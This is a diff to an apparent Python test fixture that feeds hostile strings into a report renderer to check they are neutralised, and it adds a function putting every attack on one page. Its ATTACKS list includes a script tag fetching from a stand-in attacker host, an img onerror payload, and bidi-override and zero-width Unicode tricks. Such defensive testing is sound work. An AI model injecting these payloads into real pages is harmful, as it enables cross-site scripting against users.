@@ -2,9 +2,12 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 from controller.job.evaluation import Change, ChangedExample, Count, Message, Outcomes, Said, Text
 from controller.report.facts import Detail, Earlier, Examples, Report, Side, Size, Source, Speed, Stage, Suite, Verdict
 
+_MANY = ("provenance", "suites", "sizes", "stages", "earlier", "missing", "sources")
 ATTACKS = (
     "<script>fetch('//evil.example')</script>",
     '"><img src=x onerror=alert(1)>',
@@ -22,8 +25,10 @@ ATTACKS = (
     "https://evil.example/ www.evil.example",
     "queue=\u202egnillib\u202c\u2066\u200b",
     "\x00\x07\x1b[31m\x7f\x85",
-    "a" * 20_000,
+    "a" * 3_000,
     "\u0301" * 500,
+    "\u200b\u200c\U000e0041" * 1_000,
+    "e" + "\u0300" * 300 + "bil\u200dling\ufe0f",
 )
 
 
@@ -64,4 +69,20 @@ def _example(text: str, change: Change) -> ChangedExample:
         expected=Text(text=text),
         reference=None if change is Change.WRONG else Said(text=text),
         candidate=Said(text="" if failed else f"{text} {text}", error=text if failed else ""),
+    )
+
+
+def at_once() -> Report:
+    """All attacks on one page: where none of them works, none hides another."""
+    first, *others = [everywhere(text) for text in ATTACKS]
+    reports = [first, *others]
+    return replace(
+        first,
+        name=" ".join(text[:100] for text in ATTACKS),
+        verdict=replace(first.verdict, why="; ".join(r.verdict.why for r in reports)),
+        **{part: tuple(one for r in reports for one in getattr(r, part)) for part in _MANY},
+        examples=Examples(
+            tuple(one for r in reports if r.examples for one in r.examples.changed),
+            tuple(one for r in reports if r.examples for one in r.examples.counts),
+        ),
     )
